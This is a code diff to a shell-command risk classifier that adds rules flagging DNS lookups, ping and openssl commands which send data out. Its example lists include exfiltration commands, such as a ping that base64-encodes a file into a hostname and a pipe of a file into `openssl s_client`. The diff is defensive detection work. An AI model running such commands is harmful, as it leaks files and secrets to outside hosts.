@@ -10,6 +10,8 @@ import re
 from cloud_assist.models import Risk
 from cloud_assist.shell.findings import Code
 from cloud_assist.shell.rules.base import Args, Call, Effect, Flags, Inner, Program, Rule, Ruling, names, ruled, verbs
+from cloud_assist.shell.rules.sending import sends_output
+from cloud_assist.shell.syntax import Part, Simple
 
 
 def _netcat(call: Call) -> Ruling:
@@ -39,10 +41,18 @@ def _netcat(call: Call) -> Ruling:
     )
 
 
+def _asked(call: Call) -> Ruling | None:
+    """A name that is looked up reaches a stranger's server, with whatever was put into it."""
+    if any(sends_output(word) for word in call.args):
+        return ruled(call, Risk.MUTATING, "network.ask.sends", "It sends what a file holds.", Code.SENDS_DATA_OUT)
+    return None
+
+
 _ASKS = Program(
     "network.ask",
     Risk.READ_ONLY,
     Flags(values="-f -c -p -t -q -x -w -i -s -n -m -W -I -Q -S -k -r -F -C -d --resolver"),
+    custom=lambda call, args, verb: _asked(call),
     examples={
         Risk.READ_ONLY: (
             "dig +short x.com",
@@ -64,12 +74,12 @@ _PING = Program(
         switches="-4 -6 -A -a -b -B -D -f -n -O -q -r -R -U -v -V -o",
     ),
     custom=lambda call, args, verb: (
-        None
-        if args.has("-c", "-w", "-o", "-V")
+        _asked(call)
+        if args.has("-c", "-w", "-o", "-V") or _asked(call)
         else ruled(call, Risk.READ_ONLY, "network.ping", "`ping` only asks.", Code.FOLLOWS)
     ),
     effects=(Effect("-f", Risk.MUTATING, "`ping -f` floods the other machine."),),
-    examples={Risk.READ_ONLY: ("ping x", "ping -c 3 x")},
+    examples={Risk.READ_ONLY: ("ping x", "ping -c 3 x"), Risk.MUTATING: ("ping -f x", "ping -c 1 $(base64 f).x")},
 )
 _NMAP = Program(
     "network.scan",
@@ -135,16 +145,27 @@ _OPENSSL = Program(
     examples={
         Risk.READ_ONLY: ("openssl version", "openssl x509 -in cert.pem -noout -dates",
             "openssl s_client -connect x:443 -servername x", "openssl rsa -in k.pem -noout -check",
-            "openssl dgst -sha256 f"),
+            "openssl dgst -sha256 f", "echo | openssl s_client -connect x:443"),
         Risk.SENSITIVE: ("openssl rsa -in key.pem", "openssl pkcs12 -in x.p12 -nodes"),
-        Risk.MUTATING: ("openssl genrsa -out k.pem 2048", "openssl req -new -key k -out c",
+        Risk.MUTATING: ("cat f | openssl s_client -connect x:443", "openssl genrsa -out k.pem 2048",
+            "openssl req -new -key k -out c",
             "openssl x509 -in a -out b"),
     },
 )  # fmt: skip
 
 
+def _plain_input(part: Part) -> bool:
+    """Whether a command before a pipe prints nothing but its own words (`echo Q | openssl s_client …`)."""
+    return (
+        isinstance(part, Simple) and bool(part.words) and part.words[0].text in {"echo", "printf", "true", ":", "sleep"}
+    )
+
+
 def _openssl_key(call: Call, args: Args) -> Ruling | None:
     verb = args.verbs[0] if args.operands else ""
+    if verb == "s_client" and call.upstream and not _plain_input(call.upstream[-1]):
+        text = "It sends what it is given to another machine."
+        return ruled(call, Risk.MUTATING, "network.openssl.send", text, Code.SENDS_DATA_OUT)
     if verb not in {"rsa", "ec", "pkey", "dsa", "pkcs12", "pkcs8", "req", "enc", "pkcs7", "cms"} or args.has(
         "-out", "-new", "-newkey", "-export", "-x509"
     ):
